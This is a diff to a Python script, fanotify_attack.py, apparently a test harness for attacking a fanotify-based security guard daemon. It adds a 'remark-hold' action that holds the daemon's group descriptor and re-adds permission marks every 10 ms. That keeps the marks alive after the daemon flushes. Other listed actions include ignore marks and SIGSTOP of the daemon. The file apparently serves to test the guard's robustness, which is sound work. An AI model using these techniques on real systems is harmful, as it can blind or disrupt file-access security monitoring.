@@ -11,6 +11,9 @@ Usage: fanotify_attack.py PID GROUP ACTION [PATH]
           ignore-inode  an ignore mark (open and exec, surviving writes) on the file PATH
           freeze-flush  SIGSTOP of the daemon, then flush (no probe open is left waiting on the
                         stopped daemon in between: the flush follows in microseconds)
+          remark-hold   keep the copy of the fd and, for SECONDS (argument 5), add the guard's
+                        filesystem mark on PATH again every 10 ms (a mark put back behind a
+                        stopping daemon's flush); prints "holding" first
 Prints what it did; exits 1 when a step fails (errno in the message).
 """
 import ctypes
@@ -75,6 +78,14 @@ def main():
     elif action == "ignore-fs":
         mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM | FAN_MARK_IGNORE | FAN_MARK_IGNORED_SURV_MODIFY,
              FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM, path)
+    elif action == "remark-hold":
+        import time
+        print("holding", flush=True)
+        end = time.monotonic() + float(sys.argv[5])
+        while time.monotonic() < end:
+            # The daemon may have closed its copy: the group lives on through ours.
+            mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM | FAN_CLOSE_WRITE, path)
+            time.sleep(0.01)
     elif action == "ignore-inode":
         mark(fd, FAN_MARK_ADD | FAN_MARK_IGNORE | FAN_MARK_IGNORED_SURV_MODIFY, FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM, path)
     else:
